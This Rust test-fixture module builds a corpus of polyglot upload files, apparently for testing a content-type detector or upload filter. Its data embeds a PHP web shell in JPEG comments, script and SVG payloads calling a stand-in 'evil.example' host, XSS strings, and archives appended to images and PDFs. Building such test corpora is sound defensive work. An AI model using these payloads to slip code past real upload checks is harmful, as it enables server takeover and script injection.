//! Files that are two things at once, or not what their names say, made by code.

mod make;
mod packages;

pub(crate) use make::{animated_png, chunk, gif, jpeg, mp4, pdf, png, segment, webp, webp_extended};
pub(crate) use packages::{ole, zip, zip_64, zip_of};

const SCRIPT: &[u8] = b"<html><script>fetch('//evil.example/')</script></html>";
const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//evil.example/')\"/>";

/// One of the files.
#[derive(Debug, Clone)]
pub struct Polyglot {
    /// The name it is sent under.
    pub name: &'static str,
    /// What it is.
    pub bytes: Vec<u8>,
    /// What has to be found.
    pub content_type: &'static str,
    /// Whether its name fits, so that the upload is accepted.
    pub agrees: bool,
}

/// All of them.
pub fn corpus() -> Vec<Polyglot> {
    [pictures(), documents(), streams(), markup(), texts()].concat()
}

fn file(name: &'static str, bytes: Vec<u8>, content_type: &'static str, agrees: bool) -> Polyglot {
    Polyglot { name, bytes, content_type, agrees }
}

fn join(first: Vec<u8>, second: &[u8]) -> Vec<u8> {
    [&first, second].concat()
}

/// Real pictures with something else in them, which are shown as pictures only, and what only begins like one.
fn pictures() -> Vec<Polyglot> {
    let comment = |text: &[u8]| [b"\x21\xFE\x36", text, b"\0"].concat();
    let jar = zip(&["META-INF/MANIFEST.MF", "Evil.class"]);
    vec![
        file(
            "gif-and-script.gif",
            b"GIF89a/*\0\0\0\0*/=1;alert(1)//".to_vec(),
            "application/octet-stream",
            false,
        ),
        file("script-as.gif", b"GIF89a=1;fetch('//evil.example/')".to_vec(), "text/plain", false),
        file(
            "gif-and-script-after.gif",
            join(gif(&[]), b";*/=1;fetch('//evil.example/')"),
            "image/gif",
            true,
        ),
        file("gif-and-html-comment.gif", gif(&comment(SCRIPT)), "image/gif", true),
        file("gif-and-jar.gif", join(gif(&[]), &jar), "image/gif", true),
        file("gif-as.html", gif(&comment(SCRIPT)), "image/gif", false),
        file("png-and-html.png", join(png(&chunk(*b"tEXt", SCRIPT)), SCRIPT), "image/png", true),
        file("png-and-html.html", png(&chunk(*b"tEXt", SCRIPT)), "image/png", false),
        file("png-and-zip.png", join(png(&[]), &jar), "image/png", true),
        file("png-and-zip.docx", join(png(&[]), &jar), "image/png", false),
        file(
            "png-signature.png",
            join(b"\x89PNG\r\n\x1A\n".to_vec(), SCRIPT),
            "application/octet-stream",
            false,
        ),
        file("jpeg-and-php.jpg", jpeg(&segment(0xFE, b"<?php system($_GET[0]); ?>")), "image/jpeg", true),
        file("jpeg-and-php.php.jpg", join(jpeg(&[]), b"<?php system($_GET[0]); ?>"), "image/jpeg", true),
        file("jpeg-and-script.jpg", jpeg(&segment(0xFE, b"*/=alert(1)/*")), "image/jpeg", true),
        file("jpeg-and-html.htm", jpeg(&segment(0xFE, SCRIPT)), "image/jpeg", false),
        file("many-large-frames.png", animated_png(10_000), "image/png", true),
        file("webp-and-html-inside.webp", webp_extended(4, &[], &[(b"XMP ", SCRIPT)]), "image/webp", true),
        file("webp-and-html.webp", join(webp(), SCRIPT), "image/webp", true),
        file(
            "webp-head.webp",
            join(b"RIFF\xFF\0\0\0WEBP".to_vec(), SCRIPT),
            "application/octet-stream",
            false,
        ),
        file(
            "bmp-and-script.bmp",
            join(b"BM/*".to_vec(), b"\x01*/=1;alert(1)"),
            "application/octet-stream",
            false,
        ),
    ]
}

fn documents() -> Vec<Polyglot> {
    let jar = zip(&["META-INF/MANIFEST.MF", "Evil.class"]);
    let docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    let macros = ["[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"];
    vec![
        file("pdf-and-zip.pdf", join(pdf(""), &jar), "application/pdf", true),
        file("pdf-and-zip.docx", join(pdf(""), &jar), "application/pdf", false),
        file("pdf-and-html.html", pdf("<html><script>alert(1)</script>"), "application/pdf", false),
        file("html-and-pdf.pdf", join(SCRIPT.to_vec(), &pdf("")), "text/html", false),
        file("pdf-header.pdf", join(b"%PDF-1.7\n".to_vec(), SCRIPT), "text/plain", false),
        file("bare-zip.docx", zip(&["a.txt"]), "application/zip", false),
        file(
            "docx-and-jar.docx",
            zip(&["[Content_Types].xml", "word/document.xml", "META-INF/MANIFEST.MF"]),
            "application/zip",
            false,
        ),
        file(
            "docx-and-xlsx.docx",
            zip(&["[Content_Types].xml", "word/document.xml", "xl/workbook.xml"]),
            "application/zip",
            false,
        ),
        file("real.docx", zip(&["[Content_Types].xml", "word/document.xml"]), docx, true),
        file("macros.docx", zip(&macros), "application/vnd.ms-word.document.macroEnabled.12", false),
        file("macros.docm", zip(&macros), "application/vnd.ms-word.document.macroEnabled.12", true),
        file("large.docx", zip_64(&[("[Content_Types].xml", b""), ("word/document.xml", b"")]), docx, true),
        file("book.odt", zip_of(&[("mimetype", b"application/epub+zip")]), "application/epub+zip", false),
        file("document.xls", ole(&["WordDocument", "Macros"]), "application/msword", false),
        file("encrypted.docx", ole(&["EncryptedPackage"]), "application/octet-stream", true),
        file("encrypted.doc", ole(&["EncryptedPackage"]), "application/octet-stream", false),
        file(
            "program-as.xls",
            join(b"MZ\x90\0\x03\0\0\0".to_vec(), &[0; 512]),
            "application/octet-stream",
            false,
        ),
    ]
}

fn streams() -> Vec<Polyglot> {
    let tag = [b"ID3\x04\0\0\0\0\0\x36", SCRIPT].concat();
    vec![
        file("mp4-and-html.mp4", mp4(SCRIPT), "video/mp4", true),
        file(
            "brand-and-html.mp4",
            join(b"\0\0\0\x14ftypisom\0\0\0\0mp41".to_vec(), SCRIPT),
            "application/octet-stream",
            false,
        ),
        file(
            "webm-and-html.webm",
            join(b"\x1A\x45\xDF\xA3\x87\x42\x82\x84webm".to_vec(), SCRIPT),
            "application/octet-stream",
            false,
        ),
        file(
            "opus-in-html.ogg",
            join(b"OggS\0\x02".to_vec(), b"<script>alert(1)//OpusHead</script>"),
            "application/octet-stream",
            false,
        ),
        file("mp4-and-html.html", mp4(SCRIPT), "video/mp4", false),
        file(
            "comment-and-ftyp.mp4",
            b"<!--ftypisom\0\0\0\0--><script>alert(1)</script>".to_vec(),
            "application/octet-stream",
            false,
        ),
        file("tag-and-html.mp3", join(tag, SCRIPT), "application/octet-stream", false),
        file("ogg-and-html.ogg", join(b"OggS\0".to_vec(), SCRIPT), "application/octet-stream", false),
        file(
            "wav-and-script.wav",
            b"RIFF/*\0\0WAVE*/=1;alert(1)".to_vec(),
            "application/octet-stream",
            false,
        ),
    ]
}

fn markup() -> Vec<Polyglot> {
    let wide = |unit: fn(u16) -> [u8; 2], mark: &str| -> Vec<u8> {
        format!("{mark}{SVG}").encode_utf16().flat_map(unit).collect()
    };
    let long = |size: usize| format!("<!--{}-->", "x".repeat(size)).into_bytes();
    vec![
        file("svg-as.png", SVG.as_bytes().to_vec(), "image/svg+xml", false),
        file("svg.svg", SVG.as_bytes().to_vec(), "image/svg+xml", false),
        file("svg-utf16-le.png", wide(u16::to_le_bytes, "\u{feff}"), "image/svg+xml", false),
        file("svg-utf16-be.txt", wide(u16::to_be_bytes, "\u{feff}"), "image/svg+xml", false),
        file("svg-utf16-without-mark.txt", wide(u16::to_le_bytes, ""), "image/svg+xml", false),
        file(
            "svg-after-doctype.txt",
            format!("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"b\">]>{SVG}").into_bytes(),
            "image/svg+xml",
            false,
        ),
        file(
            "svg-with-prefix.csv",
            b"<?xml version='1.0'?>\n<a:svg xmlns:a='http://www.w3.org/2000/svg'/>".to_vec(),
            "image/svg+xml",
            false,
        ),
        file("html-after-60k.txt", join(long(60 * 1024), SCRIPT), "text/html", false),
        file("html-after-100k.txt", join(long(100 * 1024), SCRIPT), "text/html", false),
        file("html-after-spaces.txt", join(vec![b' '; 70 * 1024], SCRIPT), "text/html", false),
        file("html-as.png", SCRIPT.to_vec(), "text/html", false),
        file("html-after-mark.csv", join(b"\xEF\xBB\xBF \r\n".to_vec(), SCRIPT), "text/html", false),
        file(
            "html-after-short-comment.txt",
            b"<!--><script>alert(1)</script>-->".to_vec(),
            "text/html",
            false,
        ),
        file("unknown-element.txt", b"<x onpointerenter=alert(1)>".to_vec(), "text/html", false),
        file("page.html", SCRIPT.to_vec(), "text/html", true),
        file("feed.txt", b"<?xml version=\"1.0\"?><rss/>".to_vec(), "application/xml", false),
    ]
}

fn texts() -> Vec<Polyglot> {
    vec![
        file("script.json", b"alert(1)".to_vec(), "text/plain", true),
        file("page-in-text.txt", join(b"hello ".to_vec(), SCRIPT), "text/plain", true),
        file("page-in-table.csv", join(b"a,b\n1,".to_vec(), SCRIPT), "text/plain", true),
        file("text-as.mp4", b"hello".to_vec(), "text/plain", false),
        file("less-than.md", b"<3 and < 5".to_vec(), "text/plain", true),
    ]
}
